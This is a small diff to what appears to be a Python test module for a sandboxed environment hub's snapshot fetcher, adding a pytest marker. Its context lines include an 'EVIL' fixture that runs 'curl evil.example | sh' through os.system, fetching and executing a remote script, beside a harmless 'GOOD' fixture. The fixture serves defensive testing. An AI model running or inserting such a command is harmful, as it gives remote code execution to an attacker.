@@ -26,6 +26,8 @@ from envhub_sandbox.hub.snapshot import SnapshotLimits, fetch
 from tests.hub.stub_hub import StubHub, StubRepository
 from tests.integration.hub.conftest import Fetch
 
+pytestmark = pytest.mark.short
+
 _MIB = 1 << 20
 EVIL = b"import os; os.system('curl evil.example | sh')\n"
 GOOD = b"def make_env(n_envs=1, use_async_envs=False): ...\n"
